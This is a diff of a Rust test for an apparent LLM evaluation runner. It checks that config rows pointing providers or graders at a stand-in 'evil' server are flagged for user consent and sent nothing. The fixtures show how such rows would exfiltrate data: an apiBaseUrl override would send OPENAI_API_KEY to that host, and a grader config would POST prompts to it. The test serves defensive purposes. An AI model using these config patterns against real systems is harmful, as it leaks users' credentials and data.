@@ -41,8 +41,8 @@ fn asked(finished: &Finished, file: &str) -> Vec<String> {
         "to agree, run `runner trust`. In CI, if you trust everything it checks out, set RUNNER_TRUST=data.\n"
     );
     // What a provider is shown with is a matter of its own.
-    let without_config = |subject: &str| match subject.split_once("' (") {
-        Some((provider, _)) if subject.starts_with("ask the provider") => format!("{provider}'"),
+    let without_config = |subject: &str| match subject.split_once(" (") {
+        Some((what, _)) if subject.contains(" the provider '") => what.to_owned(),
         _ => subject.to_owned(),
     };
     let subject = |line: &str| {
@@ -62,6 +62,7 @@ fn rows_that_bring_a_server_send_it_nothing() {
     api.always(Answer::text("fine"));
     let evil = api.url().replace("127.0.0.1", "0.0.0.0");
     let ask = |id: &str| format!("ask the provider '{id}'");
+    let grade = |id: &str| format!("let the provider '{id}' grade answers");
     let send = |name: &str| format!("send the environment variable {name} to {evil}");
     let rows = [
         (
@@ -89,13 +90,13 @@ fn rows_that_bring_a_server_send_it_nothing() {
             format!(
                 r#""assert": [{{ "type": "llm-rubric", "value": "v", "provider": {{ "id": "{evil}/j", "config": {{ "method": "POST", "body": {{ "r": "{{{{prompt}}}}" }} }} }} }}]"#
             ),
-            vec![ask(&format!("{evil}/j"))],
+            vec![grade(&format!("{evil}/j"))],
         ),
         (
             format!(
                 r#""options": {{ "provider": {{ "id": "openai:x", "config": {{ "apiBaseUrl": "{evil}" }} }} }}, "assert": [{{ "type": "llm-rubric", "value": "v" }}]"#
             ),
-            vec![ask("openai:x"), send("OPENAI_API_KEY")],
+            vec![grade("openai:x"), send("OPENAI_API_KEY")],
         ),
         (
             r#""options": { "url": "http://0.0.0.0:1/x", "headers": { "x-role": "admin" } }"#
